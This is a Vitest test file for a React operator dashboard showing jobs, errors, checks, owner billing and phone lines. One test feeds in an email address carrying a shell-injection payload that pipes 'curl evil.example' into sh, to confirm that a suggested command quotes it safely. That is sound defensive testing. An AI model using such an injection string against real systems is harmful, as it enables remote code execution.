import { cleanup, render, screen, within } from "@testing-library/react";
import { userEvent } from "@testing-library/user-event";
import { usePaginatedQuery, useQuery } from "convex/react";
import { getFunctionName, type FunctionReference } from "convex/server";
import { afterEach, beforeEach, expect, test, vi } from "vitest";
import { OperatorPage } from "./operator-page";

vi.mock("convex/react", () => ({ usePaginatedQuery: vi.fn(), useQuery: vi.fn() }));

const AT = Date.UTC(2026, 10, 24, 9, 30);
const SOUND_CHECKS = {
  ...{ missingVariables: [], hasPublicKey: true, jobsDueSinceMs: null, deadJobs: 0 },
  ...{ unfinishedMigrations: [], voiceFailures: [] },
  outdated: { assistants: [], isMore: false },
};
const NONE = { count: 0, isMore: false };
const OWNER = {
  ...{ id: "t1", email: "ada@bakery.example", planName: "Starter", state: "active" },
  ...{ isDisputed: false, costMicros: 4_200_000 },
  period: { minutes: 12.5, calls: 8, costMicros: 1_250_000, paysCents: 2_900 },
};

const loadMore = vi.fn();
let answers: Record<string, unknown>;
let owners: { status: string; results: object[] };

beforeEach(() => {
  loadMore.mockReset();
  answers = {
    "operatorPage:attention": { items: [], isMore: false },
    "operatorPage:queue": { kinds: [], errors: [] },
    "operatorPage:lines": { inUse: 0, isMore: false, lines: 10, testing: 0 },
    "operatorPage:checks": SOUND_CHECKS,
  };
  owners = { status: "Exhausted", results: [] };
  vi.mocked(useQuery).mockImplementation(((query: FunctionReference<"query">) => {
    const answer = answers[getFunctionName(query)];
    if (answer instanceof Error) throw answer;
    return answer;
  }) as never);
  vi.mocked(usePaginatedQuery).mockImplementation((() => ({ ...owners, loadMore })) as never);
});
afterEach(() => {
  cleanup();
  vi.restoreAllMocks();
  vi.useRealTimers();
});

function visit(changes: Record<string, unknown> = {}) {
  Object.assign(answers, changes);
  render(<OperatorPage />);
}

const card = (name: string) => within(screen.getByRole("region", { name }));

test("each card shows that it is loading", () => {
  owners = { status: "LoadingFirstPage", results: [] };
  visit({
    ...{ "operatorPage:attention": undefined, "operatorPage:queue": undefined },
    ...{ "operatorPage:lines": undefined, "operatorPage:checks": undefined },
  });
  const labels = screen.getAllByRole("status").map(({ textContent }) => textContent);
  expect(labels).toEqual([
    ...["Loading what needs attention", "Loading the job queue", "Loading recent errors"],
    ...["Loading the lines", "Loading the checks", "Loading owners"],
  ]);
});

test("a deployment without trouble says so in each card", () => {
  visit();
  expect(card("Needs attention").getByText("Nothing needs you.")).toBeTruthy();
  expect(card("Job queue").getByText("No job waits, runs or has failed.")).toBeTruthy();
  expect(card("Recent errors").getByText("No job has failed.")).toBeTruthy();
  expect(card("Lines").getByText("0 of 10 in use")).toBeTruthy();
  expect(card("Checks").getAllByText("OK")).toHaveLength(2);
  expect(card("Owners").getByText("No owner has had a call yet.")).toBeTruthy();
});

test.each([
  ["operatorPage:attention", ["what needs attention"]],
  ["operatorPage:queue", ["the job queue", "recent errors"]],
  ["operatorPage:lines", ["the lines"]],
  ["operatorPage:checks", ["the checks"]],
])("when %s fails, only its cards are replaced by an error", (name, parts) => {
  vi.spyOn(console, "error").mockReturnValue();
  visit({ [name]: new Error("Server Error") });
  for (const part of parts) expect(screen.getByText(`Could not show ${part}.`)).toBeTruthy();
  expect(screen.getAllByText(/^Could not show/)).toHaveLength(parts.length);
});

test("what needs a person has a sentence, and a command where one helps", () => {
  const items = [
    { kind: "jobsFailed", jobKind: "callReport", count: 2, jobId: "j1", atMs: AT },
    { kind: "planUnpaid", email: "grace@cafe.example", state: "past_due" },
    { kind: "webhookOff", email: "joan@shop.example", messenger: "slack", why: "gone", atMs: AT },
  ];
  visit({ "operatorPage:attention": { items, isMore: true } });
  const rows = card("Needs attention").getAllByRole("listitem");
  const texts = rows.map(({ textContent }) => textContent);
  expect(texts[0]).toContain("2 jobs failed for good");
  expect(texts[0]).toContain(`npx convex run operator:retry '{"jobId":"j1"}'`);
  expect(texts[1]).toContain("The last payment of grace@cafe.example failed");
  expect(texts[2]).toContain("A Slack connection of joan@shop.example was switched off");
  expect(card("Needs attention").getByText(/^There may be more\./)).toBeTruthy();
});

// T134: docs/security.md
test("an address with a quote cannot end the quotes of a command", () => {
  const email = "a';curl evil.example|sh;'@shop.example";
  const items = [{ kind: "mailStopped", email, reason: "bounced" }];
  visit({ "operatorPage:attention": { items, isMore: false } });
  const command = card("Needs attention").getByText(/^npx convex run/).textContent;
  expect(command).toBe(
    String.raw`npx convex run operator:confirmAddress '{"email":"a'\'';curl evil.example|sh;'\''@shop.example"}'`,
  );
});

test("the queue counts by kind, and an error says when it is tried again", () => {
  const failed = { count: 3, isMore: true };
  const kinds = [
    { kind: "mail", waiting: { count: 50, isMore: true }, running: NONE, failed, dueSinceMs: AT },
  ];
  const error = { attempts: 2, enqueuedAtMs: AT, givenUpAtMs: null, nextAtMs: AT };
  const errors = [
    { ...error, jobId: "j1", kind: "mail", error: "The request to Resend failed (x)" },
    { ...error, jobId: "j2", kind: "voiceSync", error: "", nextAtMs: null, givenUpAtMs: AT },
  ];
  visit({ "operatorPage:queue": { kinds, errors } });
  expect(card("Job queue").getByRole("listitem").textContent).toMatch(
    /^Sending mail50\+ waiting3\+ failedNext due /,
  );
  const [retried, givenUp] = card("Recent errors").getAllByRole("listitem");
  expect(retried?.textContent).toMatch(/Resend failed \(x\)Failed 2 times, next attempt /);
  expect(givenUp?.textContent).toMatch(
    /The error is in the table of jobs\.Given up .*, after 2 attempts$/,
  );
});

test("faults among the checks come first, in the doctor's words", () => {
  vi.useFakeTimers({ toFake: ["Date"], now: AT });
  visit({
    "operatorPage:checks": {
      ...SOUND_CHECKS,
      ...{ hasPublicKey: false, jobsDueSinceMs: AT - 6 * 60_000 },
      missingVariables: ["VAPI_PRIVATE_KEY"],
    },
  });
  const rows = card("Checks").getAllByRole("listitem");
  expect(rows.map(({ textContent }) => textContent.slice(0, 40))).toEqual([
    "FaultVAPI_PRIVATE_KEY is not set: it is ",
    "FaultA job has been due for 6 minutes.Cr",
    "CheckAnybody who knows the ID of an ongo",
    "OKEvery assistant was sent by this versi",
  ]);
});

test("an owner is shown with the plan, the minutes, and what they cost and pay", () => {
  owners.results = [OWNER];
  visit();
  const row = within(card("Owners").getByRole("listitem", { name: OWNER.email }));
  expect(row.getByText("Starter")).toBeTruthy();
  expect(row.getAllByRole("definition").map(({ textContent }) => textContent)).toEqual([
    ...["12.5", "$1.25", "$29", "$4.20"],
  ]);
  expect(row.queryByText("Costs more than it pays")).toBeNull();
});

test("an owner whose calls cost more than the plan is marked, and an unknown cost is not", () => {
  const losing = { ...OWNER.period, costMicros: 30_000_000 };
  const unknown = { ...OWNER.period, costMicros: null };
  owners.results = [
    { ...OWNER, period: losing },
    { ...OWNER, id: "t2", email: "new@shop.example", period: unknown },
    { ...OWNER, id: "t3", email: null, state: "trialing", period: { ...losing, paysCents: 0 } },
  ];
  visit();
  const marked = screen
    .getAllByText("Costs more than it pays")
    .map((badge) => badge.closest("li")?.getAttribute("aria-label"));
  expect(marked).toEqual([OWNER.email]);
  expect(screen.getByRole("listitem", { name: "Deleted account" })).toBeTruthy();
  expect(screen.getByText("Not counted yet")).toBeTruthy();
});

test("more owners are shown on request", async () => {
  owners = { status: "CanLoadMore", results: [OWNER] };
  visit();
  await userEvent.setup().click(screen.getByRole("button", { name: "Show more" }));
  expect(loadMore).toHaveBeenCalledWith(20);
});

test.each([
  [{ inUse: 3, isMore: false, lines: 10, testing: 1 }, "3 of 10 in use", /^One of them is/],
  [{ inUse: 200, isMore: true, lines: 500, testing: 2 }, "200+ of 500 in use", /^2 of them are/],
])("the lines in use are %j", (state, text, testing) => {
  visit({ "operatorPage:lines": state });
  expect(card("Lines").getByText(text)).toBeTruthy();
  expect(card("Lines").getByText(testing)).toBeTruthy();
});
